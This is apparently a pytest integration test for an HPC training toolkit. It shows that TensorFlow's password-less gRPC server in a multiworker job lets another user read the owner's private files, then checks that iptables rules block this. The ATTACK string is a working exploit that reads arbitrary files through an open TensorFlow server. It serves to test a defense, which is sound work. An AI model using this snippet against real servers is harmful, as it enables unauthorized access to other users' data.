"""TensorFlow's server in a running `multiworker` job, attacked by a second real user.

It asks nobody for a password: docs/users.md says so, and what keeps others away. Both are shown
here on the embedded cluster, whose nodes have networks of their own: whoever reaches a rank's port
reads the owner's files; three firewall rules on the job's nodes close the ports to everybody else,
and the job's own ranks do not notice.
"""

import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from hpcdl.cluster import NAMESPACES
from hpcdl.cluster.state import read_state
from tests.integration.test_study import jobs, trained
from tests.strangers import as_root
from tests.waiting import wait_for

__all__ = ["jobs"]
pytestmark = [pytest.mark.cluster, pytest.mark.stack, as_root]
# What the stranger runs, as `nobody` in all but the files of TensorFlow itself.
ATTACK = """
import os, sys
import tensorflow as tf
os.setgroups([]); os.setgid(65534); os.setuid(65534)
tf.compat.v1.disable_eager_execution()
patience = tf.compat.v1.ConfigProto(operation_timeout_in_ms=15000)
with tf.compat.v1.Session("grpc://" + sys.argv[1], config=patience) as session:
    print(session.run(tf.io.read_file(sys.argv[2])).decode())
"""
KNOCK = "import socket, sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), 3)"
PORTS = "12000:32767"


class Running:
    """A training on two nodes that lasts, and where its ranks listen."""

    def __init__(self, jobs, cluster, digits, release):
        self.cluster, self.python = cluster, release.root / "stack/bin/python"
        program = Path(__file__).parents[2] / "examples/strategies/multiworker.py"
        train = ["python", str(program), *trained(100_000), "--data", str(digits)]
        self.answer = jobs.submit(
            "--nodes",
            "2",
            "--gpus-per-node",
            "1",
            "--launcher",
            "multiworker",
            program=["sh", "-c", f'echo "peers $TF_CONFIG"; exec {" ".join(train)}'],
        )
        self.folder = Path(self.answer["directory"])
        wait_for(lambda: self.step() > 20)
        peers = json.loads(re.findall(r"peers (\{.*\})", (self.folder / "job.log").read_text())[0])
        named = (worker.split(":") for worker in peers["cluster"]["worker"])
        addresses = {node.name: node.address for node in cluster.nodes}
        self.ports = [(addresses[name], int(port)) for name, port in named]

    def step(self):
        path = self.folder / "progress.json"
        return int(json.loads(path.read_text())["step"]) if path.exists() else 0

    def reaches(self, address, port, node=None):
        """Whether `nobody` can open a connection, from this machine or from a node."""
        enter = ["nsenter", "--net", "-t", str(self.cluster.processes[node].pid)] if node else []
        argv = [
            *enter,
            "setpriv",
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "/usr/bin/python3",
            "-c",
            KNOCK,
            address,
            str(port),
        ]
        return subprocess.run(argv, cwd="/", check=False, capture_output=True).returncode == 0

    def stolen(self, secret):
        """What `nobody` on this machine gets of a file of mode 0600, asking the first rank."""
        address, port = self.ports[0]
        done = subprocess.run(
            [self.python, "-c", ATTACK, f"{address}:{port}", str(secret)],
            cwd="/",
            check=False,
            capture_output=True,
            text=True,
            timeout=300,
        )
        return done.stdout.strip()


def iptables(cluster, node, *words):
    enter = ["nsenter", "--net", "-t", str(cluster.processes[node].pid)]
    subprocess.run([*enter, "iptables", "-w", *words], check=True)


def fence(running):
    """As docs/evidence/tf-server.md has it: from the job's nodes, and there by its owner only."""
    nodes = [node for node in running.cluster.nodes if node.address in dict(running.ports)]
    ports = ["-p", "tcp", "--dport", PORTS]
    for node in nodes:
        rules = (
            ["INPUT", "-p", "tcp", "--dport", str(node.port), "-j", "ACCEPT"],  # slurmd's own
            ["INPUT", *ports, "-s", ",".join(one.address for one in nodes), "-j", "ACCEPT"],
            ["INPUT", *ports, "!", "-i", "lo", "-j", "REJECT"],
            ["OUTPUT", *ports, "-m", "owner", "!", "--uid-owner", str(os.getuid()), "-j", "REJECT"],
        )
        for rule in rules:
            iptables(running.cluster, node.name, "-A", *rule)


@pytest.fixture
def running(jobs, cluster, digits, release):
    if cluster.mode != NAMESPACES:
        pytest.skip("the nodes have no networks of their own")
    now = read_state(cluster.directory)  # other tests may have started nodes again
    started = Running(jobs, now, digits, release)
    yield started
    jobs.shell("scancel", str(started.answer["job_id"]), check=False)
    for node in now.nodes if shutil.which("iptables") else ():
        iptables(now, node.name, "-F")


def test_a_stranger_reads_files_through_it_until_a_firewall_stops_him(running, tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("thesis")
    secret.chmod(0o600)
    places = (None, "cpu-01", "p100-01")  # outside, another node, the job's own node
    reached = {
        (place, port) for place in places for port in running.ports if running.reaches(*port, place)
    }
    assert len(reached) == 6, "ports are open to everybody, wherever they are"
    assert running.stolen(secret) == "thesis", "what docs/users.md warns of"
    if not shutil.which("iptables"):
        pytest.skip("iptables is not installed")
    fence(running)
    for place in places:
        assert not any(running.reaches(*port, place) for port in running.ports), place
    assert running.stolen(secret) == ""
    before = running.step()
    wait_for(lambda: running.step() > before + 20)
